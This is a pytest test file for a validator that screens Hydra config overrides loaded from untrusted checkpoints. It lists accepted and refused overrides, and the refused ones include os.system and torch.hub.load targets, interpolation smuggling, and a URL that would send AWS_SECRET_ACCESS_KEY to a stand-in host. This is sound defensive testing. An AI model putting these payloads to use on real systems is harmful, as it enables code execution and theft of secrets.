"""Overrides from a checkpoint, which may come from anybody."""

from pathlib import Path
from typing import Any

import origins
import pytest
from conftest import Command
from hypothesis import given, settings
from hypothesis import strategies as st

from metalearn.run.command.inherited import check_kept, checked

HARMLESS = [
    "seed=1",
    "algorithm=maml",
    "dataset@test_dataset=mnist",
    "algorithm.inner_lr=0.1",
    "episode.train.shot=[1,5]",
    "+optimizer={_target_:torch.optim.AdamW,lr:0.1}",
    "+callbacks.rates._target_=lightning.pytorch.callbacks.LearningRateMonitor",
    "+logger.mlflow={_target_:lightning.pytorch.loggers.MLFlowLogger,token:'${oc.env:MLFLOW_TOKEN}'}",
    "++a.b=[1,{c:d}]",
    "~callbacks.best",
    "~seed=1",
    "callbacks.best=null",
    "paths.data='/a path/of its own'",
    "paths.cache=${oc.env:X}",
    "paths.cache='${oc.env:X,${oc.env:HOME,.}}'",
    "paths.outputs=o/${now:%Y-%m-%d}-${short_id:}",
    "paths.outputs='${hydra:runtime.output_dir}/a'",
    "episode.val.way=${episode.train.way}",
    "trainer.max_steps='${product:2,${tasks_per_batch}}'",
    "+note='a,b'",
]

REFUSED = [
    ("+hydra.callbacks.x={_target_:torch.hub.load,model:x}", "and settings of Hydra are not taken from a checkpoint"),
    ("++hydra.job.env_set.METALEARN_TARGETS=zipfile.", "and settings of Hydra are not taken"),
    ("hydra/job_logging=none", "and settings of Hydra are not taken"),
    ("+hydra={}", "and settings of Hydra are not taken"),
    ("+logger@hydra.callbacks.y=csv", "and settings of Hydra are not taken"),
    ("logger@_global_.hydra=csv", "and settings of Hydra are not taken"),
    ("--config-dir=/tmp", "which is not a setting"),
    ("-m", "which is not a setting"),
    ("nonsense", "which is not a setting"),
    ("", "which is not a setting"),
    ("a=b=c d'", "which Hydra does not understand"),
    ("seed=1\n", "which Hydra does not understand"),
    ("seed=1,2", "which is a sweep"),
    ("seed=range(9)", "which is a sweep"),
    ("+callbacks.x._target_=os.system", "which names a class that is not allowed"),
    ("+callbacks={x:{y:[{_target_:os.system}]}}", "which names a class that is not allowed"),
    ("+callbacks.x._target_={a:torch.nn.ReLU}", "which names a class that is not allowed"),
    ("+callbacks.x._target_=1", "which names a class that is not allowed"),
    ("+callbacks.x._target_=${evil}", "which names a class that is not allowed"),
    ("+a={_target_:metalearn.sweep.jobs.FreshProcess}", "which names a class that is not allowed"),
    ("callbacks.x='${oc.decode:\"{_target_: os.system}\"}'", "whose interpolation '.*' is not taken"),
    ("callbacks.x='${oc.create:{a:b}}'", "whose interpolation '.*' is not taken"),
    ("x='${oc.select:a}'", "whose interpolation '.*' is not taken"),
    ("x='${a.${b}}'", "whose interpolation '.*' is not taken"),
    ("x='${oc.env:${b}}'", "whose interpolation '.*' is not taken"),
    ("x='${oc.env:A${b}}'", "whose interpolation '.*' is not taken"),
    ("x='${hydra:${b}}'", "whose interpolation '.*' is not taken"),
    ("dataset.url=http://elsewhere/${oc.env:AWS_SECRET_ACCESS_KEY}", "which would put a secret where it could be read"),
    ("dataset.url='${a.token}'", "which would put a secret where it could be read"),
    ("+x=[{a:'${oc.env:DB_PWD,none}'}]", "which would put a secret where it could be read"),
]


@pytest.mark.parametrize("override", HARMLESS)
def test_a_setting_is_taken(override: str) -> None:
    check_kept(override)


@pytest.mark.parametrize(("override", "message"), REFUSED)
def test_what_could_do_more_is_refused(override: str, message: str) -> None:
    with pytest.raises(ValueError, match=f"^{message}"):
        check_kept(override)


def test_the_line_names_file_and_override(tmp_path: Path) -> None:
    path = tmp_path / "evil.ckpt"
    message = rf"^{path} is refused: it holds the override '\+hydra.callbacks.x=\\n1', which Hydra does not under"
    with pytest.raises(ValueError, match=message):
        checked(["seed=1", "+hydra.callbacks.x=\n1"], path, ())


def test_an_override_that_is_typed_anew_is_not_looked_at(tmp_path: Path) -> None:
    kept = ["seed=1", "+logger.mlflow.uri='https://me:${oc.env:PASSWORD}@host'"]
    with pytest.raises(ValueError, match="which would put a secret where it could be read: type it again$"):
        checked(kept, tmp_path / "own.ckpt", ())
    assert checked(kept, tmp_path / "own.ckpt", {"logger.mlflow.uri"}) == kept


@pytest.mark.parametrize("how", ["mode=test checkpoint={}", "resume={}"])
def test_the_command_runs_no_code_of_a_checkpoint(metalearn: Command, tmp_path: Path, how: str) -> None:
    (tmp_path / "hub").mkdir()
    (tmp_path / "hub/hubconf.py").write_text(f"open('{tmp_path}/mark', 'w')\ndependencies = []\n\ndef x(): pass\n")
    (tmp_path / "run/checkpoints").mkdir(parents=True)
    load = f"_target_:torch.hub.load,repo_or_dir:{tmp_path}/hub,source:local,model:x"
    path = origins.write(tmp_path / "run/checkpoints/last.ckpt", "seed=1", f"+hydra.callbacks.x={{{load}}}")
    finished = metalearn(*how.format(path if "test" in how else tmp_path / "run").split(), small=False)
    assert finished.code == 2
    (line,) = finished.text.strip().splitlines()
    assert line.startswith(f"metalearn: {path} is refused: it holds the override '+hydra.callbacks.x=")
    assert not (tmp_path / "mark").exists()


PIECES = ["hydra", "._target_", "seed", ".", "@", "=", "+", "~", "-", "{", "}", "[", "]", ",", ":", "${", "oc.env:"]
PIECES += ["oc.decode:", "'", '"', "\\", "os.system", "SECRET", "1", " ", "\n"]


@settings(max_examples=200, deadline=None, derandomize=True)
@given(st.lists(st.sampled_from(PIECES) | st.text(max_size=2), max_size=10).map("".join))
def test_any_text_is_taken_or_refused_in_one_line(override: Any) -> None:
    try:
        check_kept(override)
    except ValueError as error:
        line = str(error)
    else:
        key = override.partition("=")[0]
        assert "hydra" not in key.split("@")[0].split(".") and not override.startswith("-")
        assert "os.system" not in override or "_target_" not in override or "_target_=os" not in override
        return
    assert line.startswith(("which ", "whose ", "and ")) and "\n" not in line
